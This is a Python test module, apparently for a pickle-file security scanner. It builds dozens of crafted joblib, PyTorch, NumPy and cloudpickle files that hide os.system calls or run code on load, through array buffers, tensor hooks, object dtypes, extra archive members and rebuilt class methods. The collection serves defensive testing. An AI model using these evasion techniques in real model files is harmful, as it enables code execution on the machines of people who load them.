"""Classes 09, 15, 17, 18, 21: payloads behind and inside arrays and tensors, persistent ids, and code by value."""

from __future__ import annotations

import io
from collections.abc import Iterator

import joblib
import numpy as np

from tests.pickles.attacks.assembler import (
    EVIL,
    LINES,
    SYSTEM,
    Attack,
    call,
    given,
    name,
    stream,
    text,
)
from tests.pickles.attacks.packing import archive, npy


def dumped(value: object) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()


def wrapped(
    dtype: bytes, payload: bytes, *, shape: bytes = b"K\x08\x85", align: bytes = b"", more: bytes = b""
) -> bytes:
    """An array as joblib has written it since 0.10 (``joblib.numpy_pickle.NumpyArrayWrapper``): the bytes of its content
    stand in the stream, behind the BUILD of its wrapper."""
    fields = text("subclass") + name("numpy", "ndarray") + text("shape") + shape + text("order") + text("C")
    fields += text("dtype") + dtype + text("allow_mmap") + b"\x88" + align + more
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + fields + b"ub" + payload


def dtype(code: str) -> bytes:
    made = call("numpy", "dtype", text(code), b"\x89", b"\x88")
    state = given(
        b"K\x03", text("|" if code in ("u1", "O8", "O") else "<"), b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0"
    )
    return made + state + b"b"


ALIGN = text("numpy_array_alignment_bytes") + b"K\x10"
ZEROS = bytes(8)


def of_joblib() -> Iterator[Attack]:
    """Class 17."""
    u1 = dtype("u1")
    bodies = {
        "behind": wrapped(u1, ZEROS) + b"0" + SYSTEM,
        "behind-aligned": wrapped(u1, b"\x0f" + b"\xff" * 15 + ZEROS, align=ALIGN) + b"0" + SYSTEM,
        "between": b"(" + wrapped(u1, ZEROS) + SYSTEM + wrapped(u1, ZEROS) + b"t",
        "empty": wrapped(u1, b"", shape=b"K\0\x85") + b"0" + SYSTEM,
        "scalar-shape": wrapped(u1, b"\0", shape=b")") + b"0" + SYSTEM,
        "mimicked": wrapped(u1, b"\x80\x04N....") + b"0" + SYSTEM,
        "stop-bytes": wrapped(u1, b"." * 8) + b"0" + SYSTEM,
        "pad-stop": wrapped(u1, b"\x0f" + b"." * 15 + ZEROS, align=ALIGN) + b"0" + SYSTEM,
        "object": wrapped(dtype("O8"), stream(SYSTEM)),
        "object-lines": wrapped(dtype("O8"), LINES),
        "object-shape": wrapped(dtype("O8"), stream(SYSTEM), shape=b"K\0\x85"),
        "in-the-bytes": wrapped(u1, EVIL, shape=b"K" + bytes([len(EVIL)]) + b"\x85"),
        "shape-by-call": wrapped(u1, ZEROS, shape=call("builtins", "tuple", b"]K\x08a")) + b"0" + SYSTEM,
        "dtype-by-memo": u1 + b"\x94" + wrapped(b"h\0", ZEROS) + b"0" + SYSTEM,
        "overflow": wrapped(u1, ZEROS, shape=b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86") + b"0" + SYSTEM,
        "negative": wrapped(u1, ZEROS, shape=b"J\xff\xff\xff\xff\x85") + b"0" + SYSTEM,
        "twice-built": wrapped(u1, ZEROS) + b"}" + text("shape") + b"K\0\x85sb" + b"0" + SYSTEM,
        "dtype-twice": wrapped(u1, ZEROS, more=text("dtype") + dtype("O8")) + b"0" + SYSTEM,
        "old-wrapper": name("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + b")\x81}" + text("filename") + text("/x") + b"sb0" + SYSTEM,
        "dtype-called": wrapped(SYSTEM, ZEROS),
        "subclass": wrapped(u1, ZEROS, more=text("subclass") + name("os", "system")),
    }  # fmt: skip
    for way, body in bodies.items():
        yield Attack(f"17-joblib/{way}", stream(body), None, ".joblib")
    real = dumped({"weights": np.zeros(5), "more": np.arange(3)})
    yield Attack("17-joblib/real-then-call", real[:-1] + b"0" + SYSTEM + b".", suffix=".joblib")
    yield Attack("17-joblib/real-then-pickle", real + EVIL, suffix=".joblib")
    yield Attack("17-joblib/real-objects", dumped(np.array([1], object)) + LINES, suffix=".joblib")


def storage(kind: bytes, key: str = "0", device: str = "cpu") -> bytes:
    return given(text("storage"), kind, text(key), text(device), b"K\1") + b"Q"


def tensor(kind: bytes, hooks: bytes = b"") -> bytes:
    hooks = hooks or call("collections", "OrderedDict", b"")
    return call("torch._utils", "_rebuild_tensor_v2", storage(kind) + b"K\0" + b")" + b")\x89" + hooks)


FLOAT = name("torch", "FloatStorage")


def of_torch() -> Iterator[Attack]:
    """Class 15."""
    hooks = call("collections", "OrderedDict", b"") + b"K\0" + name("os", "system") + b"s"
    bodies = {
        "storage-type": tensor(name("os", "system")),
        "hooks": tensor(FLOAT, hooks),
        "parameter-state": call("torch._utils", "_rebuild_parameter_with_state", tensor(FLOAT) + b"\x88" + hooks + b"}" + text("x") + name("os", "system") + b"s"),
        "from-bytes": call("torch.storage", "_load_from_bytes", b"B" + len(EVIL).to_bytes(4, "little") + EVIL),
        "from-bytes-lines": call("torch.storage", "_load_from_bytes", b"B" + len(LINES).to_bytes(4, "little") + LINES),
        "module-state": name("torch.nn.modules.linear", "Linear") + b")\x81}" + text("forward") + SYSTEM + b"sb",
        "module-setstate": name("torch.nn.modules.linear", "Linear") + b")\x81}" + text("__setstate__") + name("os", "system") + b"sb" + text("x") + b"b",
        "load": call("torch.serialization", "load", text("/dev/null")),
        "jit-load": call("torch.jit._serialization", "load", text("/dev/null")),
        "hub": call("torch.hub", "load", text("x/y") + text("z")),
        "extension": call("torch.utils.cpp_extension", "load_inline", text("x") + text("")),
        "execwrapper": call("torch._inductor.codecache", "PyCodeCache.load", text("pass")),
        "spawn": call("torch.multiprocessing.spawn", "spawn", name("os", "system")),
        "dotted": call("torch", "serialization.os.system", text("true")),
        "wrapper-subclass": call("torch._tensor", "_rebuild_from_type_v2", name("os", "system") + name("torch", "Tensor") + given(text("true")) + b"}"),
        "qtensor": call("torch._utils", "_rebuild_qtensor", SYSTEM),
    }  # fmt: skip
    honest = stream(tensor(FLOAT), 2)
    for way, body in bodies.items():
        content = stream(body, 4)
        yield Attack(f"15-torch/{way}", archive(("archive/data.pkl", content), ("archive/version", b"3\n"), ("archive/data/0", bytes(4))), None, ".pt")  # fmt: skip
    members = {
        "in-a-storage": [("archive/data.pkl", honest), ("archive/data/0", EVIL)],
        "second-folder": [("archive/data.pkl", honest), ("other/data.pkl", EVIL)],
        "code": [
            ("archive/data.pkl", honest),
            ("archive/code/__torch__.py", b"def f(): pass\n"),
            ("archive/constants.pkl", EVIL),
        ],
        "package": [("archive/.data/extern_modules", b""), ("archive/model/model.pkl", EVIL)],
        "bytecode": [("archive/data.pkl", honest), ("archive/bytecode.pkl", EVIL)],
        "extra": [("archive/data.pkl", honest), ("archive/extra/producer_info.json", LINES)],
    }
    for way, parts in members.items():
        yield Attack(f"15-torch/{way}", archive(*parts), suffix=".pt")


def of_arrays() -> Iterator[Attack]:
    """Class 18."""
    for way, descr in {
        "shaped-object": "[('a', '|O', (2,))]",
        "nested-object": "[('a', [('b', '|O')])]",
        "titled-object": "[(('t', 'a'), '|O')]",
        "object-8": "'|O8'",
        "object-4": "'O4'",
        "unicode": "'|\\u004f'",
        "tuple": "('|O', (1,))",
    }.items():
        yield Attack(f"18-npy/{way}", npy(descr, EVIL), suffix=".npy")
    plain = npy("'|O'", EVIL)
    yield Attack("18-npy/version-2", b"\x93NUMPY\2\0" + plain[8:10] + b"\0\0" + plain[10:], suffix=".npy")
    yield Attack("18-npy/version-3", b"\x93NUMPY\3\0" + plain[8:10] + b"\0\0" + plain[10:], suffix=".npy")
    yield Attack("18-npy/lines", npy("'|O'", LINES), suffix=".npy")


def of_persistent_ids() -> Iterator[Attack]:
    """Class 09."""
    bodies = {
        "called": given(text("storage"), text("x")) + b"Q" + given(text("x")) + b"R",
        "called-first": SYSTEM + b"Q",
        "in-a-tuple": b"(" + SYSTEM + b"tQ",
        "built": text("x") + b"Q}" + text("a") + name("os", "system") + b"sb",
        "text-called": b"Px\n" + given(text("x")) + b"R",
    }
    for way, body in bodies.items():
        yield Attack(f"09-persistent/{way}", stream(body, 0 if way == "text-called" else 4), None)


def of_code() -> Iterator[Attack]:
    """Class 21: classes and functions by value that the stream itself runs."""
    cloudpickle = "cloudpickle.cloudpickle"
    code = call("types", "CodeType", b"K\0K\0K\0K\0K\1K\x43C\4d\0S\0N\x85))" + text("f") + text("f") + text("f") + b"K\1C\0C\0))")  # fmt: skip
    function = call(cloudpickle, "_make_function", code + b"}NNN")
    made = call(cloudpickle, "_make_skeleton_class", name("builtins", "type") + text("C") + given(name("builtins", "object")) + b"}NN")  # fmt: skip
    for method in ("__setstate__", "__new__", "__del__", "__init_subclass__", "__set_name__", "__setattr__", "__reduce__"):  # fmt: skip
        completed = call(
            cloudpickle, "_class_setstate", made + given(b"}" + text(method) + function + b"s", b"}")
        )
        if method != "__reduce__":
            yield Attack(f"21-code/{method}", stream(completed + b")\x81}b"), None)
    hashed = call(
        cloudpickle, "_class_setstate", made + given(b"}" + text("__hash__") + function + b"s", b"}")
    )
    key = b"}" + made + b"\x94" + hashed + b"00h\0)\x81"
    yield Attack("21-code/hash-of-a-key", stream(key + b"Ns"), None)
    yield Attack("21-code/hash-in-a-tuple", stream(key + b"\x85Ns"), None)
    yield Attack("21-code/hash-of-keys", stream(b"}(" + key[1:] + b"Nu"), None)
    yield Attack("21-code/hash-in-a-set", stream(b"\x8f(" + key[1:] + b"\x90"), None)
    yield Attack("21-code/hash-in-a-frozen-set", stream(b"(" + key[1:] + b"\x91"), None)
    yield Attack("21-code/hash-in-a-dict", stream(b"(" + key[1:] + b"Nd"), None)
    yield Attack("21-code/function-reduced", stream(function + given(text("x")) + b"R"), None)
    yield Attack("21-code/function-object", stream(b"(" + function + b"o"), None)
    for method in ("__init__", "__new__", "__call__"):
        given_to = call(
            cloudpickle, "_class_setstate", made + given(b"}" + text(method) + function + b"s", b"}")
        )
        yield Attack(f"21-code/class-called-{method}", stream(given_to + b"0" + made + b")R"), None)
    yield Attack("21-code/partial-called", stream(call("functools", "partial", function) + b")R"), None)
    yield Attack(
        "21-code/mapped", stream(call("builtins", "list", call("builtins", "map", function + b"]K\1a"))), None
    )
    yield Attack("21-code/property", stream(call("functools", "reduce", function + b"]K\1aK\2a")), None)
    yield Attack("21-code/default-factory", stream(call("operator", "getitem", call("collections", "defaultdict", function) + text("k"))), None)  # fmt: skip


def of_inline() -> Iterator[Attack]:
    """All of them."""
    yield from of_joblib()
    yield from of_torch()
    yield from of_arrays()
    yield from of_persistent_ids()
    yield from of_code()
